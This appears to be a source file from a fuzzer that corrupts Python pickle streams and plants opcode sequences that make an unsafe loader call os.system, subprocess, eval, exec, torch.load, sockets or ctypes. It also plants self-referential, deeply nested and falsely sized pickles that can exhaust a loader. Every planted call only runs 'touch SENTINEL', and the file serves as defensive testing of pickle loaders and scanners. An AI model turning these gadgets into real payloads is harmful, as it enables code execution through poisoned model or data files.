"""Damages pickles by instruction, and plants what a plain loader would run.

The planted calls do one harmless thing, ``touch SENTINEL``; whoever runs one leaves that file.
"""

from __future__ import annotations

import io
import pickletools
from functools import lru_cache

from fuzz.dice import Dice
from fuzz.mutations.structures import NotThatStructure

SENTINEL = "SENTINEL"
COMMAND = f"touch {SENTINEL}"
CODE = f"open({SENTINEL!r}, 'w')"


def text(value: str) -> bytes:
    """The instruction that puts a text on the stack."""
    raw = value.encode("utf-8", "surrogatepass")
    return b"X" + len(raw).to_bytes(4, "little") + raw


def short(value: bytes) -> bytes:
    """The instruction that puts up to 255 bytes on the stack."""
    return b"C" + bytes([len(value)]) + value


def _on_stack(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


RUN = text(COMMAND) + b"\x85"
# Every way in which a pickle can call something, and things worth calling.
CALLS = (
    b"cos\nsystem\n" + RUN + b"R",
    b"cposix\nsystem\n" + RUN + b"R",
    _on_stack("posix", "system") + RUN + b"R",
    _on_stack("os", "system") + RUN + b"\x81",
    b"cnt\nsystem\n" + RUN + b"}\x92",
    b"(" + text(COMMAND) + b"ios\nsystem\n",
    b"(cos\nsystem\n" + text(COMMAND) + b"o",
    b"cbuiltins\neval\n" + text(CODE) + b"\x85R",
    b"cbuiltins\nexec\n" + text(CODE) + b"\x85R",
    b"c__builtin__\nopen\n" + text(SENTINEL) + text("w") + b"\x86R",
    b"cio\nopen\n" + text(SENTINEL) + text("w") + b"\x86R",
    b"csubprocess\ncheck_call\n" + text(COMMAND) + b"\x85R",
    b"csubprocess\nPopen\n]" + text("touch") + b"a" + text(SENTINEL) + b"a\x85R",
    b"cbuiltins\ngetattr\ncbuiltins\n__import__\n"
    + text("os")
    + b"\x85R"
    + text("system")
    + b"\x86R"
    + RUN
    + b"R",
    b"cbuiltins\ngetattr\nctorch.serialization\nos\n" + text("system") + b"\x86R" + RUN + b"R",
    b"ctorch.serialization\nos.system\n" + RUN + b"R",
    b"coperator\nattrgetter\n" + text("system") + b"\x85Rcos\npath\n\x85R" + RUN + b"R",
    b"coperator\nmethodcaller\n" + text("system") + text(COMMAND) + b"\x86Rcshutil\nos\n\x85R",
    b"cfunctools\npartial\ncos\nsystem\n" + text(COMMAND) + b"\x86R)R",
    b"cfunctools\nreduce\ncos\nsystem\n]" + text(COMMAND) + b"a\x86R",
    b"cbuiltins\nmap\ncos\nsystem\n]" + text(COMMAND) + b"a\x86R",
    b"cimportlib\nimport_module\n" + text("antigravity") + b"\x85R",
    b"cnumpy.testing._private.utils\nrunstring\n" + text(CODE) + b"}\x86R",
    b"cpickle\nloads\n" + short(b"cos\nsystem\n" + RUN + b"R.") + b"\x85R",
    b"ctorch\nload\n" + text("decoy.bin") + b"\x85R",
    b"ctorch.storage\n_load_from_bytes\n" + short(b"cos\nsystem\n" + RUN + b"R.") + b"\x85R",
    b"ctorch.hub\nload\n" + text("a/b") + text("c") + b"\x86R",
    b"csocket\ncreate_connection\n" + text("127.0.0.1") + b"K\x09\x86\x85R",
    b"cctypes\nCDLL\n" + text("libc.so.6") + b"\x85R",
    b"ccollections\nOrderedDict\n)R}" + text("__class__") + b"cos\nsystem\nsb",
    b"ctypes\nCodeType\n)R",
    b"csite\nexecsitecustomize\n)R",
    b"\x82\x01",
    b"\x84\xff\xff\xff\x7f",
    text(COMMAND) + b"Q",
    b"P" + COMMAND.encode() + b"\n",
)
# Values that refer to themselves, double at each step, go deep, or claim to be long.
SHAPES = (
    b"]r\x99\x99\x00\x00j\x99\x99\x00\x00a",
    b"}r\x99\x99\x00\x00" + text("self") + b"j\x99\x99\x00\x00s",
    b"ccollections\nOrderedDict\n)Rr\x99\x99\x00\x00" + text("self") + b"j\x99\x99\x00\x00s",
    b"cx\ny\n)\x81r\x99\x99\x00\x00}"
    + text("_modules")
    + b"}"
    + text("a")
    + b"j\x99\x99\x00\x00ssb",
    b")" + b"2\x86" * 64,
    b"]" + b"r\x99\x99\x00\x00]j\x99\x99\x00\x00aj\x99\x99\x00\x00a" * 64,
    b"}"
    + (
        b"r\x99\x99\x00\x00}"
        + text("a")
        + b"j\x99\x99\x00\x00s"
        + text("b")
        + b"j\x99\x99\x00\x00s"
    )
    * 40,
    b"]" * 50_000 + b"a" * 49_999,
    b")" + b"\x85" * 50_000,
    b"}" + b"2" * 1_000,
    b"(" * 20_000,
    b"(" * 1_000 + b"l" * 1_000,
    b"\x97" * 3_000,
    b"K\x01" * 20_000,
    b"\x8d" + (1 << 62).to_bytes(8, "little"),
    b"\x8e" + (1 << 63).to_bytes(8, "little"),
    b"X\xff\xff\xff\x7f",
    b"B\xff\xff\xff\xff",
    b"\x8b\xff\xff\xff\xff",
    b"\x8b\xf0\xff\xff\x7f",
    b"\x8a\xff" + b"\xff" * 255,
    b"\x95" + b"\xff" * 8,
    b"I" + b"9" * 6_000 + b"\n",
    b"L" + b"9" * 6_000 + b"L\n",
    b"F1e999\n",
    b"Inan\n",
    b"p" + b"9" * 30 + b"\n",
    b"r\xff\xff\xff\xff",
    b"N",
    b"G\x7f\xf8\0\0\0\0\0\0",
)
LENGTHS = {
    b"X": 4,
    b"B": 4,
    b"T": 4,
    b"\x8b": 4,
    b"\x8c": 1,
    b"C": 1,
    b"U": 1,
    b"\x8a": 1,
    b"\x8d": 8,
    b"\x8e": 8,
    b"\x96": 8,
}
NUMBERS = {b"J": 4, b"K": 1, b"M": 2, b"h": 1, b"q": 1, b"j": 4, b"r": 4, b"\x95": 8}
LINES = b"ILFSVPgpci"
NAMES = (
    b"torch._utils\n_rebuild_tensor_v2\n",
    b"torch._utils\n_rebuild_tensor_v3\n",
    b"torch._utils\n_rebuild_qtensor\n",
    b"torch._utils\n_rebuild_parameter\n",
    b"torch._utils\n_rebuild_sparse_tensor\n",
    b"torch._utils\n_rebuild_wrapper_subclass\n",
    b"torch._utils\n_rebuild_meta_tensor_no_storage\n",
    b"torch._tensor\n_rebuild_from_type_v2\n",
    b"torch.fx.graph_module\nreduce_graph_module\n",
    b"torch.storage\n_load_from_bytes\n",
    b"torch.jit._pickle\nbuild_intlist\n",
    b"torch\nFloatStorage\n",
    b"torch\nQInt8Storage\n",
    b"torch\nSize\n",
    b"torch\nbfloat16\n",
    b"collections\nOrderedDict\n",
    b"collections\ndefaultdict\n",
    b"numpy.core.multiarray\n_reconstruct\n",
    b"numpy._core.numeric\n_frombuffer\n",
    b"numpy\ndtype\n",
    b"_codecs\nencode\n",
    b"builtins\nbytearray\n",
    b"builtins\ngetattr\n",
    b"builtins\ntuple\n",
    b"joblib.numpy_pickle\nNumpyArrayWrapper\n",
)


def plant_a_call(data: bytes, dice: Dice) -> bytes:
    """What a plain loader would run, its result on the stack or not."""
    pieces, tail = _split(data)
    pieces.insert(_within(pieces, dice), dice.choice(CALLS) + dice.choice((b"0", b"0", b"")))
    return b"".join(pieces) + tail


def plant_a_shape(data: bytes, dice: Dice) -> bytes:
    """A value without end, without bottom, or of a length that it does not have."""
    pieces, tail = _split(data)
    pieces.insert(_within(pieces, dice), dice.choice(SHAPES) + dice.choice((b"0", b"", b"a", b"s")))
    return b"".join(pieces) + tail


def in_place_of_a_value(data: bytes, dice: Dice) -> bytes:
    """The same where a number, text or tuple stood, so that what follows uses it."""
    pieces, tail = _split(data)
    values = [i for i, piece in enumerate(pieces) if piece[:1] in b"XKMJ\x8a\x8c)]}\x88\x89N"]
    if not values:
        raise NotThatStructure
    at = dice.choice(values)
    others = [piece for piece in pieces if piece[:1] in b"XKMJ\x8a\x8c)]}h"]
    pieces[at] = dice.choice(
        (dice.choice(SHAPES), dice.choice(CALLS), dice.choice(others or [b"N"]))
    )
    return b"".join(pieces) + tail


def change_order(data: bytes, dice: Dice) -> bytes:
    """An instruction dropped, doubled, moved or exchanged with another."""
    pieces, tail = _split(data)
    for _ in range(dice.choice((1, 1, 2, 5))):
        one, other = dice.place(pieces), dice.place(pieces)
        what = dice.randrange(4)
        if what == 0 and len(pieces) > 1:
            del pieces[one]
        elif what == 1:
            pieces.insert(one, pieces[one])
        elif what == 2:
            pieces.insert(other, pieces.pop(one))
        else:
            pieces[one], pieces[other] = pieces[other], pieces[one]
    return b"".join(pieces) + tail


def change_argument(data: bytes, dice: Dice) -> bytes:
    """A number, text, name or length that an instruction carries."""
    pieces, tail = _split(data)
    carrying = [i for i, piece in enumerate(pieces) if len(piece) > 1]
    if not carrying:
        raise NotThatStructure
    at = dice.choice(carrying)
    pieces[at] = _changed(pieces[at], dice)
    return b"".join(pieces) + tail


def _changed(piece: bytes, dice: Dice) -> bytes:
    code = piece[:1]
    if code in NUMBERS:
        return code + dice.bytes_of(NUMBERS[code])
    if code == b"c":
        return code + dice.choice(NAMES)
    if code in LINES:
        return code + dice.text().replace("\n", " ").encode("utf-8", "replace") + b"\n"
    if code not in LENGTHS:
        return code + dice.randbytes(len(piece) - 1)
    width = LENGTHS[code]
    if dice.one_in(3):
        return code + dice.bytes_of(width, len(piece)) + piece[1 + width :]
    if code == b"\x8a":
        return code + bytes([8]) + dice.bytes_of(8)
    raw = dice.text().encode("utf-8", "surrogatepass")[: 2 ** (8 * width) - 1]
    return code + len(raw).to_bytes(width, "little") + raw


def _within(pieces: list[bytes], dice: Dice) -> int:
    # Behind the protocol, before the end: elsewhere it would not be read at all.
    return dice.randint(1, max(len(pieces) - 1, 1))


def _split(data: bytes) -> tuple[list[bytes], bytes]:
    pieces, tail = instructions(data)
    if not pieces:
        raise NotThatStructure
    return list(pieces), tail


@lru_cache(maxsize=256)
def instructions(data: bytes) -> tuple[tuple[bytes, ...], bytes]:
    """The instructions of the pickles that stand in a row at the beginning, and what follows."""
    stream, pieces, end = io.BytesIO(data), [], 0
    while end < len(data):
        try:
            starts = [place for _, _, place in pickletools.genops(stream)]
        except (ValueError, IndexError, OverflowError):
            break
        stops = [*starts[1:], stream.tell()]
        pieces += [data[start:stop] for start, stop in zip(starts, stops, strict=True)]
        end = stream.tell()
    return tuple(pieces), data[end:]


MUTATORS = (
    plant_a_call,
    plant_a_shape,
    in_place_of_a_value,
    change_order,
    change_order,
    change_argument,
    change_argument,
    change_argument,
)
